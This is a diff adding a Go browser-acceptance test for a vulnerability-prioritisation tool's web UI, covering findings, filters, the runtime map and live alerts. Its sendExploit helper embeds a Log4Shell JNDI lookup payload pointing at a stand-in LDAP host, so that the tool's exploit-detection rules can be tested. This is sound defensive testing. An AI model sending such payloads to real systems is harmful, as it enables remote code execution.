@@ -1,0 +1,347 @@
+package cli
+
+import (
+	"context"
+	"encoding/json"
+	"flag"
+	"fmt"
+	"io"
+	"log/slog"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"regexp"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/chromedp/chromedp"
+	"go.opentelemetry.io/otel/attribute"
+	"go.opentelemetry.io/otel/exporters/otlp/otlptrace/otlptracehttp"
+	"go.opentelemetry.io/otel/sdk/resource"
+	sdktrace "go.opentelemetry.io/otel/sdk/trace"
+	"go.opentelemetry.io/otel/trace"
+
+	"github.com/evidentsec/evident/internal/source/sourcetest"
+)
+
+var uiScreenshots = flag.String("ui-screenshots", "", "also write TestUIInBrowser's screenshots to this directory (../../docs/ui for docs/ui.md)")
+
+// chromium finds a Chromium or Chrome to drive; "" when none is
+// installed.
+func chromium() string {
+	for _, name := range []string{"chromium", "chromium-browser", "google-chrome", "google-chrome-stable"} {
+		if p, err := exec.LookPath(name); err == nil {
+			return p
+		}
+	}
+	return ""
+}
+
+// TestUIInBrowser is issue 15's browser acceptance: headless Chromium
+// against serve holding the example shop's recording (polled from
+// Tempo's and Pyroscope's query APIs, as TestServeFromSources does). Each
+// page renders the example's findings, the filters narrow the table and
+// are links, a finding page shows its stack and a not_observed one its
+// bound in words, the map shows the PII store downstream of the exposed
+// gateway, and an alert fired while the alerts page is open appears
+// without a reload. Every page's screenshot is a test artefact
+// (-artifacts), and with -ui-screenshots DIR is written there too.
+func TestUIInBrowser(t *testing.T) {
+	if testing.Short() {
+		t.Skip("drives a browser against serve for about 20 s")
+	}
+	exe := chromium()
+	if exe == "" {
+		t.Skip("no Chromium to drive: install it (Debian: apt-get install -y chromium) to run the web UI's browser tests")
+	}
+	srv := startShopServer(t)
+	defer shutdown(t, srv)
+	base := srv.apiURL()
+
+	// Wait for the recording to be assessed: every finding decided.
+	waitFor(t, "every finding of the shop decided", func() bool {
+		var s struct {
+			Findings  int            `json:"findings"`
+			ByVerdict map[string]int `json:"by_verdict"`
+		}
+		getJSON(t, base+"/api/v1/summary", &s)
+		return s.Findings > 0 && s.ByVerdict["unknown"] == 0
+	})
+
+	opts := append(slices.Clone(chromedp.DefaultExecAllocatorOptions[:]),
+		chromedp.ExecPath(exe),
+		chromedp.NoSandbox,
+		chromedp.DisableGPU,
+		chromedp.NoFirstRun,
+		chromedp.Flag("disable-quic", true),
+		chromedp.Flag("disable-background-networking", true),
+		chromedp.Flag("disable-component-update", true),
+		chromedp.Flag("disable-sync", true),
+		chromedp.Flag("hide-scrollbars", true),
+		chromedp.UserDataDir(t.TempDir()),
+		chromedp.WindowSize(1280, 900),
+	)
+	actx, cancelAlloc := chromedp.NewExecAllocator(t.Context(), opts...)
+	defer cancelAlloc()
+	ctx, cancelBrowser := chromedp.NewContext(actx, chromedp.WithLogf(t.Logf))
+	defer cancelBrowser()
+	ctx, cancel := context.WithTimeout(ctx, 4*time.Minute)
+	defer cancel()
+
+	run := func(what string, actions ...chromedp.Action[chromedp.Void]) {
+		t.Helper()
+		start := time.Now()
+		if err := chromedp.Do(ctx, actions...); err != nil {
+			t.Fatalf("%s: %v", what, err)
+		}
+		t.Logf("%s: %v", what, time.Since(start).Round(time.Millisecond))
+	}
+	eval := func(expr string, v any) {
+		t.Helper()
+		got, err := chromedp.Run(ctx, chromedp.Evaluate[json.RawMessage](expr))
+		if err == nil && v != nil {
+			err = json.Unmarshal(got, v)
+		}
+		if err != nil {
+			t.Fatalf("evaluate %s: %v", expr, err)
+		}
+	}
+	screenshot := func(name string) {
+		t.Helper()
+		png, err := chromedp.Run(ctx, chromedp.FullScreenshot(100))
+		if err != nil {
+			t.Fatalf("screenshot %s: %v", name, err)
+		}
+		for _, dir := range []string{t.ArtifactDir(), *uiScreenshots} {
+			if dir == "" {
+				continue
+			}
+			if err := os.WriteFile(filepath.Join(dir, name+".png"), png, 0o644); err != nil {
+				t.Fatal(err)
+			}
+		}
+	}
+	text := func(sel string) string {
+		t.Helper()
+		s, err := chromedp.Run(ctx, chromedp.Text(chromedp.CSS(sel)))
+		if err != nil {
+			t.Fatalf("read %s: %v", sel, err)
+		}
+		return s
+	}
+	count := func(sel string) int {
+		t.Helper()
+		var n int
+		eval(fmt.Sprintf("document.querySelectorAll(%q).length", sel), &n)
+		return n
+	}
+
+	// Overview: the backlog cut, the matrix, services by exposure.
+	run("open the overview", chromedp.Navigate(base+"/"), chromedp.WaitVisible(chromedp.CSS("#backlog")))
+	if got := text("#backlog"); !regexp.MustCompile(`\d+ of 34 findings need action now`).MatchString(got) {
+		t.Errorf("overview backlog = %q, want the 34 findings of the shop", got)
+	}
+	if got := text("#exposure"); !regexp.MustCompile(`(?s)exposed.*gateway.*internal.*catalog.*no_input.*reporter`).MatchString(got) {
+		t.Errorf("services by exposure = %q", got)
+	}
+	screenshot("overview")
+
+	// Findings: the table in priority order, 25 a page.
+	run("open the findings", chromedp.Navigate(base+"/ui/findings"), chromedp.WaitVisible(chromedp.CSS("table.findings")))
+	if n := count("table.findings tbody tr"); n != 25 {
+		t.Errorf("findings page 1 has %d rows, want 25", n)
+	}
+	// The recorded OSV records carry no severity: the executed and
+	// exposed finding leads, in P2.
+	if got := text("table.findings tbody tr:first-child"); !regexp.MustCompile(`(?s)^P2.*GO-2026-5970.*gateway\s+executed\s+exposed`).MatchString(got) {
+		t.Errorf("first finding = %q, want GO-2026-5970 executed in the exposed gateway", got)
+	}
+	screenshot("findings")
+
+	// Filters through the form, then as a link.
+	run("filter catalog's executed findings",
+		chromedp.SetValue(chromedp.CSS(`select[name="service"]`), "catalog"),
+		chromedp.SetValue(chromedp.CSS(`select[name="verdict"]`), "executed"),
+		chromedp.Click(chromedp.CSS(`form.filters button[type="submit"]`)),
+		chromedp.WaitVisible(chromedp.CSS(`#count`)),
+	)
+	loc, err := chromedp.Run(ctx, chromedp.Location())
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(loc, "service=catalog") || !strings.Contains(loc, "verdict=executed") {
+		t.Errorf("filtered URL = %s, want the filter in the query", loc)
+	}
+	if n, rows := count("table.findings tbody tr"), count(`table.findings tbody tr[data-verdict="executed"]`); n != 5 || rows != 5 {
+		t.Errorf("catalog executed: %d rows, %d executed, want 5 and 5", n, rows)
+	}
+	run("filter by text", chromedp.Navigate(base+"/ui/findings?q=go-2026-5970&sort=service"), chromedp.WaitVisible(chromedp.CSS("#count")))
+	if n := count("table.findings tbody tr"); n != 4 {
+		t.Errorf("text filter GO-2026-5970: %d rows, want 4 (one per service)", n)
+	}
+	run("filter by KEV", chromedp.Navigate(base+"/ui/findings?kev=yes"), chromedp.WaitVisible(chromedp.CSS("#count")))
+	if got := text("#count"); got != "No finding matches." {
+		t.Errorf("KEV filter: %q, want no finding (the shop's are not in KEV)", got)
+	}
+	run("bad filter", chromedp.Navigate(base+"/ui/findings?tier=P9"), chromedp.WaitVisible(chromedp.CSS(".error")))
+	if got := text(".error"); !strings.Contains(got, `tier "P9"`) {
+		t.Errorf("bad tier: %q", got)
+	}
+
+	// A finding page: the stack through the vulnerable function.
+	run("open gateway's GO-2026-5970",
+		chromedp.Navigate(base+"/ui/findings?service=gateway&q=GO-2026-5970"),
+		chromedp.Click(chromedp.CSS(`table.findings tbody tr:first-child a[href^="/ui/findings/"]`)),
+		chromedp.WaitVisible(chromedp.CSS("#flame")),
+	)
+	var vulnFrames []string
+	eval(`Array.from(document.querySelectorAll("#flame .frame.vulnerable title"), t => t.textContent)`, &vulnFrames)
+	if len(vulnFrames) == 0 || !strings.Contains(strings.Join(vulnFrames, "\n"), "golang.org/x/text/unicode/norm.") {
+		t.Errorf("flame graph's vulnerable frames = %q, want x/text's norm", vulnFrames)
+	}
+	if got := text("#reachability"); !strings.Contains(got, "GET /search") {
+		t.Errorf("finding's endpoints: %q, want GET /search", got)
+	}
+	screenshot("finding")
+
+	// A not_observed finding: the bound in words.
+	run("open gateway's GO-2020-0036",
+		chromedp.Navigate(base+"/ui/findings?service=gateway&q=GO-2020-0036"),
+		chromedp.Click(chromedp.CSS(`table.findings tbody tr:first-child a[href^="/ui/findings/"]`)),
+		chromedp.WaitVisible(chromedp.CSS("#bound")),
+	)
+	if got := text("#bound"); !regexp.MustCompile(`took \d+ samples over .* rule of three: 3 / \d+`).MatchString(got) {
+		t.Errorf("bound = %q", got)
+	}
+	screenshot("finding-not-observed")
+
+	// The runtime map: the PII store downstream of the exposed gateway.
+	run("open the map", chromedp.Navigate(base+"/ui/map"), chromedp.WaitVisible(chromedp.CSS("#runtime-map")))
+	var node map[string]string
+	eval(`(() => { const g = document.querySelector('#runtime-map [data-node="sqlite://shop/customers"]');
+		return g ? {labels: g.dataset.labels || "", downstream: g.dataset.downstreamOf || ""} : {}; })()`, &node)
+	if !strings.Contains(node["labels"], "pii") || !strings.Contains(node["downstream"], "gateway") {
+		t.Errorf("map node sqlite://shop/customers = %v, want labels pii, downstream of gateway", node)
+	}
+	if n := count(`#runtime-map [data-node="gateway"][data-exposure="exposed"]`); n != 1 {
+		t.Errorf("gateway is not shown exposed on the map")
+	}
+	if n := count(`#runtime-map .edge.hot[data-from="orders"][data-to="sqlite://shop/customers"]`); n != 1 {
+		t.Errorf("orders -> sqlite://shop/customers is not drawn as an exposed path")
+	}
+	screenshot("map")
+
+	// Click through to a service: its Runtime BOM.
+	run("open gateway", chromedp.Click(chromedp.CSS(`#runtime-map a[href="/ui/services/gateway"]`)), chromedp.WaitVisible(chromedp.CSS("#svc-endpoints")))
+	if got := text("#svc-endpoints"); !strings.Contains(got, "GET /search") {
+		t.Errorf("gateway's endpoints: %q", got)
+	}
+	if got := text("#svc-packages"); !strings.Contains(got, "golang.org/x/text/unicode/norm") {
+		t.Errorf("gateway's packages: %q", got)
+	}
+	screenshot("service")
+
+	// Alerts: one fired while the page is open appears without a reload.
+	run("open the alerts", chromedp.Navigate(base+"/ui/alerts"), chromedp.WaitVisible(chromedp.CSS("#alerts")))
+	eval(`window.notReloaded = true`, nil)
+	waitForBrowser(t, ctx, "the alert stream to connect", `document.getElementById("stream-state").textContent === "live"`)
+	before := count(`#alerts tbody tr[data-alert]`)
+	sendExploit(t, srv.otlp.HTTPAddr())
+	waitForBrowser(t, ctx, "the exploit alert to appear", `document.querySelector('#alerts tbody tr.fresh') !== null`)
+	var stillThere bool
+	eval(`window.notReloaded === true`, &stillThere)
+	if !stillThere {
+		t.Error("the alerts page was reloaded")
+	}
+	if got := text("#alerts tbody tr:first-child"); !strings.Contains(got, "exploit_payload") || !strings.Contains(got, "gateway") {
+		t.Errorf("newest alert row = %q, want gateway's exploit_payload", got)
+	}
+	if after := count(`#alerts tbody tr[data-alert]`); after != before+1 {
+		t.Errorf("alert rows: %d before, %d after, want one more", before, after)
+	}
+	screenshot("alerts")
+}
+
+// waitForBrowser waits until a JavaScript expression holds in the page.
+func waitForBrowser(t *testing.T, ctx context.Context, what, expr string) {
+	t.Helper()
+	deadline := time.Now().Add(15 * time.Second)
+	for {
+		ok, err := chromedp.Run(ctx, chromedp.Evaluate[bool](expr))
+		if err != nil {
+			t.Fatalf("waiting for %s: %v", what, err)
+		}
+		if ok {
+			return
+		}
+		if time.Now().After(deadline) {
+			t.Fatalf("timed out waiting for %s", what)
+		}
+		time.Sleep(100 * time.Millisecond)
+	}
+}
+
+// startShopServer starts serve with the shop's configuration, findings
+// and vulnerability records, polling the recorded telemetry from test
+// Tempo and Pyroscope servers, with an OTLP/HTTP receiver for more.
+func startShopServer(t *testing.T) *server {
+	t.Helper()
+	rec, err := sourcetest.LoadRecording(filepath.Join(shop, "recorded"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	pyro, tempo, err := rec.Servers()
+	if err != nil {
+		t.Fatal(err)
+	}
+	ts := httptest.NewServer(tempo.Handler())
+	t.Cleanup(ts.Close)
+	mux := http.NewServeMux()
+	mux.Handle(pyro.Handler())
+	ps := httptest.NewServer(mux)
+	t.Cleanup(ps.Close)
+
+	cfg, err := loadConfig(filepath.Join(shop, "evident.yaml"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	test := serveTestConfig(t)
+	cfg.Serve.API, cfg.Serve.Engine.AssessInterval, cfg.Serve.ShutdownTimeout = test.Serve.API, test.Serve.Engine.AssessInterval, test.Serve.ShutdownTimeout
+	cfg.Serve.OTLP.GRPCEndpoint, cfg.Serve.OTLP.HTTPEndpoint, cfg.Serve.Pyroscope.Endpoint = "", "127.0.0.1:0", ""
+	cfg.Serve.Sources.Tempo, cfg.Serve.Sources.Pyroscope = ts.URL, ps.URL
+	// The recording is from the past: one window reaches back to it.
+	cfg.Serve.Sources.Lookback = 10 * 365 * 24 * time.Hour
+	cfg.Serve.Sources.MaxWindow = cfg.Serve.Sources.Lookback
+	rd := filepath.Join(shop, "recorded")
+	g := &globals{stdout: io.Discard, stderr: io.Discard, dataDir: t.TempDir()}
+	log := slog.New(slog.NewTextHandler(t.Output(), &slog.HandlerOptions{Level: slog.LevelWarn}))
+	srv, err := startServer(t.Context(), g, cfg, serveFlags{vulns: []string{filepath.Join(rd, "osv")}, findings: []string{filepath.Join(rd, "findings")}}, log)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return srv
+}
+
+// sendExploit exports a request to gateway carrying a Log4Shell lookup in
+// its query, which the exploit rules alert on.
+func sendExploit(t *testing.T, addr string) {
+	t.Helper()
+	exp, err := otlptracehttp.New(t.Context(), otlptracehttp.WithEndpoint(addr), otlptracehttp.WithInsecure())
+	if err != nil {
+		t.Fatal(err)
+	}
+	tp := sdktrace.NewTracerProvider(sdktrace.WithSyncer(exp),
+		sdktrace.WithResource(resource.NewSchemaless(attribute.String("service.name", "gateway"))))
+	_, span := tp.Tracer("test").Start(t.Context(), "GET /search", trace.WithSpanKind(trace.SpanKindServer),
+		trace.WithAttributes(attribute.String("http.request.method", "GET"), attribute.String("http.route", "/search"),
+			attribute.String("url.path", "/search"), attribute.String("url.query", "q=${jndi:ldap://198.51.100.7/a}"),
+			attribute.String("client.address", "198.51.100.7")))
+	span.End()
+	if err := tp.Shutdown(t.Context()); err != nil {
+		t.Fatal(err)
+	}
+}
